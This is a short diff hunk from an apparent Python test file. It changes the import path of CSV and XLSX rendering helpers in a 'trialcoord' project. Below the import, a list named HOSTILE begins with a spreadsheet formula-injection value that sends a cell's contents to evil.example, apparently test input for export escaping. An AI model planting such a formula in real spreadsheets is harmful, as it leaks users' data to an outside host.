@@ -10,7 +10,7 @@ import openpyxl
 import pytest
 from openpyxl.utils.escape import unescape
 
-from trialcoord.adapters.tabular import csv_text, xlsx_bytes
+from trialcoord.kernel.render.tabular import csv_text, xlsx_bytes
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
